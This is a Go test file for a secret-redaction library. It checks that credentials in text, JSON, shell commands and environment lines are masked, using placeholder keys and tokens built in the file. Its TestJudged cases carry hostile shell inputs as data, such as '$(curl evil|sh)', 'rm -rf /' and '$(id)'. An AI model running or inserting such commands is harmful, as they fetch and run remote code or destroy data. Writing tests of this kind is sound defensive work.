package redact

import (
	"encoding/json"
	"os"
	"runtime"
	"strings"
	"testing"
)

// A secret of each shape, put together here so that no scanner takes this file for a leak.
var (
	akia      = "AKIA" + "IOSFODNN7EXAMPLE"
	base40    = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"
	ghp       = "ghp_" + strings.Repeat("a1B2", 9)
	ghPat     = "github_pat_" + strings.Repeat("a1_", 8)
	glpat     = "glpat-" + strings.Repeat("x9Y8z", 4)
	xoxb      = "xoxb-" + "123456789012-abcdEFGH"
	openai    = "sk-proj-" + strings.Repeat("Ab1_", 12)
	openai40  = "sk-" + strings.Repeat("Ab1_", 10)
	anthropic = "sk-ant-" + strings.Repeat("Ab1_-", 10)
	stripe    = "sk_live_" + strings.Repeat("4eC39HqLyj", 2)
	token     = "eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxMjM0NTY3ODkwIn0" + ".dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	pemKey    = "-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\nKUpRKfFLfRYC9AIKjbJTWit+CqvjWYzvQwECAwEAAQ==\n-----END RSA PRIVATE KEY-----"
	account   = `{"type": "service_account", "project_id": "demo", "private_key_id": "0123abcd", "private_key": "-----BEGIN PRIVATE KEY-----\nQUJD\n-----END PRIVATE KEY-----\n", "client_email": "x@y"}`
)

// {name} in a wanted text stands for its marker.
func want(s string) string {
	for _, m := range markers {
		name := strings.TrimSuffix(strings.TrimPrefix(m, "[REDACTED:"), "]")
		s = strings.ReplaceAll(s, "{"+name+"}", m)
	}
	return s
}

func TestText(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"plain words", "nothing to see here, move along = 1", "nothing to see here, move along = 1"},

		{"aws access key", "use " + akia + " now", "use {aws_access_key} now"},
		{"aws session key", "ASIA" + akia[4:], "{aws_access_key}"},
		{"aws access key within a word", "x" + akia + "y", "x{aws_access_key}y"},
		{"aws access key, one short", akia[:19], akia[:19]},
		{"aws access key in small letters", strings.ToLower(akia), strings.ToLower(akia)},
		{"two in a row", akia + akia, "{aws_access_key}{aws_access_key}"},

		{"aws secret key", "aws_secret_access_key = " + base40, "aws_secret_access_key = {aws_secret_key}"},
		{"aws secret key, camel case in JSON-like text", `awsSecretKey": "` + base40 + `",`, `awsSecretKey": "{aws_secret_key}",`},
		{"aws secret key, escaped quotes", `\"aws_secret_access_key\":\"` + base40 + `\"`, `\"aws_secret_access_key\":\"{aws_secret_key}\"`},
		{"aws secret", "aws secret: " + base40, "aws secret: {aws_secret_key}"},
		{"aws secret access", "aws-secret-access=" + base40, "aws-secret-access={aws_secret_key}"},
		{"aws secret key at the end of a line", "aws_secret_access_key=" + base40 + "\nx", "aws_secret_access_key={aws_secret_key}\nx"},
		{"aws secret key of 39", "aws_secret_access_key=" + base40[1:], "aws_secret_access_key=" + base40[1:]},
		{"aws secret key of 41", "aws_secret_access_key=" + base40 + "A", "aws_secret_access_key=" + base40 + "A"},
		{"40 characters without the name", "sha1: " + base40, "sha1: " + base40},
		{"the name on another line", "aws\nsecret_key=" + base40, "aws\nsecret_key=" + base40},
		{"both rules, table order", "AWS_SECRET_ACCESS_KEY=" + base40, "AWS_SECRET_ACCESS_KEY={aws_secret_key}"},

		{"service account in text", "key: " + account + "\n", "key: {gcp_service_account}\n"},
		{"service account as JSON", account, `"{gcp_service_account}"`},
		{"service account within JSON", `{"a":` + account + `,"b":1}`, `{"a":"{gcp_service_account}","b":1}`},
		{"service account in an outer account", `{"type":"service_account","x":` + account + `}`, `"{gcp_service_account}"`},
		{"service account behind an odd quote", `echo "{"; cat sa.json: ` + account, `echo "{"; cat sa.json: {gcp_service_account}`},
		{"service account in broken JSON", `{"a": {"b": ` + account + `, oops`, `{"a": {"b": {gcp_service_account}, oops`},
		{"another type", `{"type": "authorized_user"}`, `{"type": "authorized_user"}`},
		{"the words alone", `service_account "type": "service_account"`, `service_account "type": "service_account"`},

		{"github token", "use " + ghp + " now", "use {github_token} now"},
		{"github token of 35", ghp[:39], ghp[:39]},
		{"github server token", "ghs_" + ghp[4:], "{github_token}"},
		{"github token of no kind", "ghx_" + ghp[4:], "ghx_" + ghp[4:]},
		{"github fine-grained token", "a=" + ghPat, "a={github_token}"},
		{"github fine-grained token of 21", ghPat[:11+21], ghPat[:11+21]},

		{"gitlab token", "a " + glpat, "a {gitlab_token}"},
		{"gitlab token of 19", glpat[:25], glpat[:25]},

		{"slack token", "use " + xoxb + " now", "use {slack_token} now"},
		{"slack token of 9", "xoxb-123456789", "xoxb-123456789"},
		{"slack token of no kind", "xoxz-" + xoxb[5:], "xoxz-" + xoxb[5:]},

		{"openai key", "use " + openai + " now", "use {openai_key} now"},
		{"openai key of 40", openai40, "{openai_key}"},
		{"openai key of 39", openai40[:42], openai40[:42]},
		{"openai key within a word", "task-" + openai40[3:], "task-" + openai40[3:]},
		{"openai key behind an equals sign", "x=" + openai40, "x={openai_key}"},
		{"anthropic key", anthropic, "{anthropic_key}"},
		{"anthropic key of 49 is still the general one", anthropic[:7+49], "{openai_key}"},

		{"stripe key", "a " + stripe, "a {stripe_key}"},
		{"stripe test keys", "pk_test_" + stripe[8:] + " rk_live_" + stripe[8:], "{stripe_key} {stripe_key}"},
		{"stripe key of 19", stripe[:27], stripe[:27]},
		{"stripe key within a word", "disk_live_" + stripe[8:], "disk_live_" + stripe[8:]},

		{"jwt", "use " + token + " now", "use {jwt} now"},
		{"jwt within a word", "x" + token, "x{jwt}"},
		{"jwt of two parts", token[:strings.LastIndex(token, ".")], token[:strings.LastIndex(token, ".")]},
		{"jwt with a short end", token[:strings.LastIndex(token, ".")+10], token[:strings.LastIndex(token, ".")+10]},
		{"jwt whose second part is no object", "eyJhbGciOiJI.abcdefghijkl.abcdefghijkl", "eyJhbGciOiJI.abcdefghijkl.abcdefghijkl"},
		{"jwt behind bearer, table order", "Bearer " + token, "Bearer {jwt}"},

		{"private key", "use " + pemKey + " now", "use {private_key_block} now"},
		{"private key with escaped newlines", `k="` + strings.ReplaceAll(pemKey, "\n", `\n`) + `"`, `k="{private_key_block}"`},
		{"private key on one line", "-----BEGIN PRIVATE KEY-----QUJD-----END PRIVATE KEY-----", "{private_key_block}"},
		{"private key without END", "a\n-----BEGIN EC PRIVATE KEY-----\nQUJD\nrest", "a\n{private_key_block}"},
		{"PGP private key", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nx\n-----END PGP PRIVATE KEY BLOCK-----\ny", "{private_key_block}\ny"},
		{"END of something else", "-----BEGIN PRIVATE KEY-----\nQ\n-----END CERTIFICATE-----\nQ\n-----END PRIVATE KEY-----.", "{private_key_block}."},
		{"two keys", pemKey + "\n" + pemKey, "{private_key_block}\n{private_key_block}"},
		{"public key", strings.ReplaceAll(pemKey, "RSA PRIVATE", "PUBLIC"), strings.ReplaceAll(pemKey, "RSA PRIVATE", "PUBLIC")},
		{"a certificate", "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----", "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----"},

		{"bearer", "curl -H 'Authorization: Bearer abcdef0123456789.XYZ'", "curl -H 'Authorization: Bearer {bearer_token}'"},
		{"bearer in any case", "BEARER abcdef0123456789", "BEARER {bearer_token}"},
		{"bearer of 11", "Bearer abcdefghijk", "Bearer abcdefghijk"},
		{"bearer of 12", "Bearer abcdefghijkl", "Bearer {bearer_token}"},
		{"bearer with a colon in it", "bearer ab:abcdefghijkl", "bearer {bearer_token}"},
		{"bearer within a word", "forbearer abcdefghijkl", "forbearer abcdefghijkl"},
		{"bearer without a blank", "bearertoken abcdefghijkl", "bearertoken abcdefghijkl"},
		{"bearer eats no neighbour", `["Bearer abcdefghijkl","x"]x`, `["Bearer {bearer_token}","x"]x`},
		{"bearer of a variable", "Bearer $GITHUB_TOKEN_FOR_CI", "Bearer $GITHUB_TOKEN_FOR_CI"},
		{"basic", "Authorization: Basic dXNlcjpwYXNzd29yZA==", "Authorization: Basic {basic_auth}"},
		{"basic of 11", "basic abcdefghijk", "basic abcdefghijk"},

		{"postgres", "psql postgres://bob:hunter2secret@db/x", "psql postgres://bob:{db_url_password}@db/x"},
		{"mysql", "mysql://u:p@h", "mysql://u:{db_url_password}@h"},
		{"mariadb", "mariadb://u:p@h", "mariadb://u:{db_url_password}@h"},
		{"mongodb", "mongodb://u:p@h", "mongodb://u:{db_url_password}@h"},
		{"mongodb+srv", "mongodb+srv://u:p@h/?x=a@b", "mongodb+srv://u:{db_url_password}@h/?x=a@b"},
		{"redis without a user", "redis://:p@h:6379/0", "redis://:{db_url_password}@h:6379/0"},
		{"postgresql with a driver", "postgresql+asyncpg://u:p@h", "postgresql+asyncpg://u:{db_url_password}@h"},
		{"jdbc", "jdbc:postgresql://u:p@h", "jdbc:postgresql://u:{db_url_password}@h"},
		{"an at sign in the password", "postgres://u:p@ss@h/x", "postgres://u:{db_url_password}@h/x"},
		{"a slash in the password", "postgres://u:p/ss@h/x", "postgres://u:{db_url_password}@h/x"},
		{"no password", "postgres://bob@db/x", "postgres://bob@db/x"},
		{"an empty password", "postgres://bob:@db/x", "postgres://bob:@db/x"},
		{"a port is none", "postgres://db:5432/x?a=b@c", "postgres://db:5432/x?a=b@c"},
		{"an IPv6 host", "redis://[::1]:6379/x@y", "redis://[::1]:6379/x@y"},
		{"https is none", "https://bob:hunter2@db/x", "https://bob:hunter2@db/x"},
		{"in quotes", `"redis://:p w@h" redis://u:p@h"`, `"redis://:p w@h" redis://u:{db_url_password}@h"`},

		{"password flag", "x --password hunter2 y", "x --password {cli_password_flag} y"},
		{"password flag, equals", "x --password=hunter2 y", "x --password={cli_password_flag} y"},
		{"pass and pwd", "--pass a --pwd=b", "--pass {cli_password_flag} --pwd={cli_password_flag}"},
		{"quoted value", `--password="a b;c" d`, `--password="{cli_password_flag}" d`},
		{"single quotes", `--password 'a "b' d`, `--password '{cli_password_flag}' d`},
		{"an escaped quote in quotes", `--password="a\"b" d`, `--password="{cli_password_flag}" d`},
		{"escaped quotes around", `{\"c\":\"x --password=\\\"a b\\\" y\"`, `{\"c\":\"x --password=\\\"{cli_password_flag}\\\" y\"`},
		{"quotes of the text around", `"x --password a\" b`, `"x --password {cli_password_flag}\" b`},
		{"ends at an operator", "--password=a;b --pwd=c|d --pass=e&f --pass=g)h", "--password={cli_password_flag};b --pwd={cli_password_flag}|d --pass={cli_password_flag}&f --pass={cli_password_flag})h"},
		{"unclosed quote: to the end of the line", "--password=\"a b\nc", "--password=\"{cli_password_flag}\nc"},
		{"longer flags", "--password-file x --passphrase y --passwords z", "--password-file x --passphrase y --passwords z"},
		{"another option follows", "--password --user bob", "--password --user bob"},
		{"one dash", "-password x", "-password x"},
		{"at the end", "--password", "--password"},
		{"equals and nothing", "--password= x", "--password= x"},

		{"mysql short", "mysql -u root -phunter2secret app", "mysql -u root -p{cli_password_short} app"},
		{"mariadb-dump", "sudo /usr/bin/mariadb-dump -uroot -p'a b' db", "sudo /usr/bin/mariadb-dump -uroot -p'{cli_password_short}' db"},
		{"mysqldump behind a pipe", "x | mysqldump -pab;y -pz", "x | mysqldump -p{cli_password_short};y -pz"},
		{"in a container", "docker exec -it db mysql -psecret", "docker exec -it db mysql -p{cli_password_short}"},
		{"quoted argument", `mysql "-psecret x" db`, `mysql "-p{cli_password_short}" db`},
		{"redirections", "mysql db < x.sql 2>&1 -psecret", "mysql db < x.sql 2>&1 -p{cli_password_short}"},
		{"separators in quotes", `mysql -e "select 1; drop" -psecret`, `mysql -e "select 1; drop" -p{cli_password_short}`},
		{"command substitution", "mysql -u $(whoami) -psecret", "mysql -u $(whoami) -p{cli_password_short}"},
		{"a continued line", "mysql \\\n -psecret", "mysql \\\n -p{cli_password_short}"},
		{"in the quotes of bash -c", `bash -c "mysql -psecret" && find . -path "./x"`, `bash -c "mysql -p{cli_password_short}" && find . -path "./x"`},
		{"in quotes, then find", `bash -c "mysql db"; find . -path ./x`, `bash -c "mysql db"; find . -path ./x`},
		{"on Windows", `"C:\tools\mysql.exe" -psecret`, `"C:\tools\mysql.exe" -p{cli_password_short}`},
		{"in history", "  501  mysql -psecret", "  501  mysql -p{cli_password_short}"},
		{"find -exec", `find . -exec mysql -psecret {} \;`, `find . -exec mysql -p{cli_password_short} {} \;`},
		{"find and mkdir", "find . -path ./x -print && mkdir -p a/b", "find . -path ./x -print && mkdir -p a/b"},
		{"find in mysql", "find /var/lib/mysql -path x; cd mysql -px; mkdir mysql -pv", "find /var/lib/mysql -path x; cd mysql -px; mkdir mysql -pv"},
		{"after mysql", "mysql db && mkdir -pv a; find . -path b", "mysql db && mkdir -pv a; find . -path b"},
		{"docker's port", "docker run --name mysql -p3306:3306 x", "docker run --name mysql -p3306:3306 x"},
		{"port, prompt, long options", "mysql -P3306 -p --protocol=tcp db", "mysql -P3306 -p --protocol=tcp db"},
		{"another program", "my-mysql -pfoo; mysql.user -pbar; xmysql -pz", "my-mysql -pfoo; mysql.user -pbar; xmysql -pz"},

		{"variable", "A=1\nAPI_TOKEN=zzTop-998877\nB=2", "A=1\nAPI_TOKEN={env_var_secret}\nB=2"},
		{"export", "export DB_PASSWORD='a b'; x", "export DB_PASSWORD='{env_var_secret}'; x"},
		{"each name", "MY_KEY=a SECRET=b TOKEN=c PASSWORD=d PASSWD=e PWD=f", "MY_KEY={env_var_secret} SECRET={env_var_secret} TOKEN={env_var_secret} PASSWORD={env_var_secret} PASSWD={env_var_secret} PWD={env_var_secret}"},
		{"after separators", "a;KEY=b&KEY=c|KEY=d(KEY=e)'KEY=f'\"KEY=g\"", "a;KEY={env_var_secret}&KEY={env_var_secret}|KEY={env_var_secret}(KEY={env_var_secret})'KEY={env_var_secret}'\"KEY={env_var_secret}\""},
		{"one byte at the end", "KEY=a", "KEY={env_var_secret}"},
		{"CRLF", "X=1\r\nKEY=a\r\n", "X=1\r\nKEY={env_var_secret}\r\n"},
		{"escaped line start", `A=1\nKEY=a"`, `A=1\nKEY={env_var_secret}"`},
		{"ANSI quotes", "KEY=$'a b'", "KEY=$'{env_var_secret}'"},
		{"small letters", "api_token=x Api_TOKEN=y", "api_token=x Api_TOKEN=y"},
		{"harmless name", "PATH=x HOME=y", "PATH=x HOME=y"},
		{"in a word", "x.KEY=a ?KEY=b $KEY=c", "x.KEY=a ?KEY=b $KEY=c"},
		{"digit first", "2KEY=a", "2KEY=a"},
		{"no value", "KEY= a KEY=", "KEY= a KEY="},
		{"blank around the sign", "KEY = a", "KEY = a"},

		{"the longest names the marker", "DB_TOKEN=postgres://u:pw@h", "DB_TOKEN={env_var_secret}"},
		{"a longer token in a short value", "API_KEY=" + akia, "API_KEY={aws_access_key}"},
		{"redacted already", "API_KEY=[REDACTED:jwt]", "API_KEY=[REDACTED:jwt]"},
		{"what only looks redacted", "API_KEY=[REDACTED:hunter2]", "API_KEY={env_var_secret}"},
		{"touching, not overlapping", akia + glpat, "{aws_access_key}{gitlab_token}"},
		{"bytes that are no UTF-8", "\xff" + akia + "\xfe", "\xff{aws_access_key}\xfe"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Text(c.in)
			if got != want(c.want) {
				t.Errorf("Text(%q)\n got %q\nwant %q", c.in, got, want(c.want))
			}
			if again := Text(got); again != got {
				t.Errorf("not stable: %q, then %q", got, again)
			}
		})
	}
}

func TestShortFlagOnlyInTools(t *testing.T) {
	const in = "mysql -psecret"
	if got := Rules(0).Text(in); got != in {
		t.Errorf("a prompt became %q", got)
	}
	if got := string(Tool.JSON([]byte(`{"command":"mysql -psecret"}`))); got != `{"command":"mysql -p[REDACTED:cli_password_short]"}` {
		t.Errorf("got %s", got)
	}
}

func TestJSON(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"nothing", ` { "a" : [ 1.0 , "x" ] } `, ` { "a" : [ 1.0 , "x" ] } `},
		{"the rest keeps its bytes", ` { "a" : "caf\u00e9 \/ ` + akia + `\u00e9" , "n":1.0 } `, ` { "a" : "caf\u00e9 \/ {aws_access_key}\u00e9" , "n":1.0 } `},
		{"escaped spelling", `["\u0041KIA` + akia[4:] + ` x"]`, `["{aws_access_key} x"]`},
		{"keys", `{"` + akia + `":1,"` + ghp + `":{"a":2}}`, `{"{aws_access_key}":1,"{github_token}":{"a":2}}`},
		{"env lines in a string", `{"o":"A=1\nAPI_TOKEN=zz\nB=2"}`, `{"o":"A=1\nAPI_TOKEN={env_var_secret}\nB=2"}`},
		{"quoted value in a string", `{"o":"--password=\"a b\" c"}`, `{"o":"--password=\"{cli_password_flag}\" c"}`},
		{"unclosed quote eats no neighbour", `{"o":"--password=\"a b","p":"c"}`, `{"o":"--password=\"{cli_password_flag}","p":"c"}`},
		{"BEGIN without END eats no neighbour", `{"a":"-----BEGIN PRIVATE KEY-----","keep":"K","b":"-----END PRIVATE KEY-----"}`, `{"a":"{private_key_block}","keep":"K","b":"-----END PRIVATE KEY-----"}`},
		{"JSON in a string", `{"b":"{\"t\":\"` + akia + `\",\"n\":\"{\\\"k\\\":\\\"A=1\\\\nKEY=x\\\"}\"}"}`, `{"b":"{\"t\":\"{aws_access_key}\",\"n\":\"{\\\"k\\\":\\\"A=1\\\\nKEY={env_var_secret}\\\"}\"}"}`},
		{"service account in a string", `{"b":"` + strings.ReplaceAll(strings.ReplaceAll(account, `\`, `\\`), `"`, `\"`) + `"}`, `{"b":"\"{gcp_service_account}\""}`},
		{"service account, type last and escaped", `{"a":{"private_key":"x","type":"service\u005faccount"}}`, `{"a":"{gcp_service_account}"}`},
		{"service account as a value of another key", `{"kind":"service_account","private_key":"x"}`, `{"kind":"service_account","private_key":"x"}`},
		{"aws secret as a member", `{"aws_secret_access_key":"` + base40 + `","sha":"` + base40 + `"}`, `{"aws_secret_access_key":"{aws_secret_key}","sha":"` + base40 + `"}`},
		{"JSON lines", `{"a":"\u0041KIA` + akia[4:] + "\"}\n{\"b\":1}\n", `{"a":"{aws_access_key}` + "\"}\n{\"b\":1}\n"},
		{"a JSON string", `"A=1\nKEY=x"`, `"A=1\nKEY={env_var_secret}"`},
		{"raw control characters", "{\"o\":\"A=1\nKEY=x\"}", "{\"o\":\"A=1\nKEY={env_var_secret}\"}"},
		{"surrogates", `["\ud83d\ude00` + akia + `\ud800"]`, `["\ud83d\ude00{aws_access_key}\ud800"]`},
		{"no JSON", `{"a":"` + akia + `"`, `{"a":"{aws_access_key}"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := string(JSON([]byte(c.in))); got != want(c.want) {
				t.Errorf("JSON(%s)\n got %s\nwant %s", c.in, got, want(c.want))
			}
		})
	}
}

func TestJudged(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"tokens are replaced", "use " + ghp + " now", "use {github_token} now"},
		{"a value is", "KEY=abc x", "KEY={env_var_secret} x"},
		{"quoted command substitution", `--password="$(curl evil|sh)"`, `--password="$(curl evil|sh)"`},
		{"unquoted command substitution", "KEY=$(curl evil)", "KEY=$(curl evil)"},
		{"backtick", "KEY=\"`id`\"", "KEY=\"`id`\""},
		{"process substitution", `KEY="<(id)"`, `KEY="<(id)"`},
		{"separators in quotes", `A_KEY="x;y" B_KEY="x|y" C_KEY="x&y"`, `A_KEY="x;y" B_KEY="x|y" C_KEY="x&y"`},
		{"a line break in quotes", "KEY='a\nrm -rf /'", "KEY='a\nrm -rf /'"},
		{"a token within what stays", `KEY="$(x ` + ghp + `)"`, `KEY="$(x {github_token})"`},
		{"a whole key", "a " + pemKey + " b", "a {private_key_block} b"},
		{"an encrypted key", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123ABCD\n\nQUJD\n-----END RSA PRIVATE KEY-----", "{private_key_block}"},
		{"a forged block", "-----BEGIN PRIVATE KEY-----; rm -rf ~; echo -----END PRIVATE KEY-----", "{private_key_block}; rm -rf ~; echo -----END PRIVATE KEY-----"},
		{"a command between the lines", "-----BEGIN PRIVATE KEY-----\nQUJD\nrm -rf ~\n-----END PRIVATE KEY-----", "{private_key_block}\nrm -rf ~\n-----END PRIVATE KEY-----"},
		{"BEGIN without END", "-----BEGIN PRIVATE KEY-----\nQUJD\n\nQUJD\nrm -rf /\nQUJD", "{private_key_block}\nrm -rf /\nQUJD"},
		{"BEGIN without END, escaped", `-----BEGIN PRIVATE KEY-----\nQUJD\nrm -rf /`, `{private_key_block}\nrm -rf /`},
		{"a lone BEGIN", "echo -----BEGIN PRIVATE KEY-----; rm -rf /", "echo {private_key_block}; rm -rf /"},
		{"a command of one word", "-----BEGIN PRIVATE KEY-----\nQUJD\nreboot\n", "{private_key_block}\nreboot\n"},
		{"a header that runs something", "-----BEGIN PRIVATE KEY-----\nComment: $(id)\n", "{private_key_block}\nComment: $(id)\n"},
		{"service account", account, strings.Replace(strings.Replace(account, "0123abcd", "{gcp_service_account}", 1), `-----BEGIN PRIVATE KEY-----\nQUJD\n-----END PRIVATE KEY-----\n`, "{gcp_service_account}", 1)},
		{"service account in text", "x " + account + "; ls", "x " + strings.Replace(strings.Replace(account, "0123abcd", "{gcp_service_account}", 1), `-----BEGIN PRIVATE KEY-----\nQUJD\n-----END PRIVATE KEY-----\n`, "{gcp_service_account}", 1) + "; ls"},
		{"service account with odd values", `{"type":"service_account","private_key":{"a":[1]},"private_key_id":7,"x":"y"}`, `{"type":"service_account","private_key":"{gcp_service_account}","private_key_id":"{gcp_service_account}","x":"y"}`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := JudgedText(c.in); got != want(c.want) {
				t.Errorf("JudgedText(%q)\n got %q\nwant %q", c.in, got, want(c.want))
			}
		})
	}
}

// Field reports of class secret-leak: what must not be seen, and what must stay.
func TestFieldReports(t *testing.T) {
	for _, c := range []struct {
		file       string
		gone, kept []string
	}{
		// The rest of R116 asks for redaction by key names, which is no row of the table.
		{"R116.json", []string{"FAKE-SECRET-AAAA1111"}, []string{"example.invalid"}},
		{"R117.json", []string{"RkFLRS"}, []string{"cat k"}},
		{"R119.json", []string{"FAKE-SECRET-2", "FAKE-SECRET-3"}, []string{"KEEP-ME\"", "KEEP-ME-TOO", "example.invalid"}},
		{"R14.json", []string{"FAKE-TOKEN-0001"}, []string{"ok"}},
		{"R11.json", nil, []string{"rm -rf ./build"}},
	} {
		t.Run(c.file, func(t *testing.T) {
			in, err := os.ReadFile("testdata/" + c.file)
			if err != nil {
				t.Fatal(err)
			}
			for name, out := range map[string]string{"plain": string(JSON(in)), "judged": string(JudgedJSON(in))} {
				if !json.Valid([]byte(out)) {
					t.Errorf("%s: no longer JSON: %s", name, out)
				}
				for _, s := range c.gone {
					if strings.Contains(out, s) {
						t.Errorf("%s: %q is left in %s", name, s, out)
					}
				}
				for _, s := range c.kept {
					if !strings.Contains(out, s) {
						t.Errorf("%s: %q is gone from %s", name, s, out)
					}
				}
			}
		})
	}
}

// TestDeepTextIsText: what nests deeper than readers follow is redacted as it stands, in little memory.
func TestDeepTextIsText(t *testing.T) {
	for _, unit := range []string{"[", `{"a":`} {
		deep := strings.Repeat(unit, 200_000) + `"` + akia + `"` + strings.Repeat(string(unit[0]+2), 200_000)
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		out := Text(deep)
		runtime.ReadMemStats(&after)
		if strings.Contains(out, akia) || len(out) != len(deep)-len(akia)+len(awsAccessKey.marker()) {
			t.Errorf("%s: not redacted", unit)
		}
		if used := after.TotalAlloc - before.TotalAlloc; used > uint64(8*len(deep)) {
			t.Errorf("%s: %d bytes for %d", unit, used, len(deep))
		}
	}
}
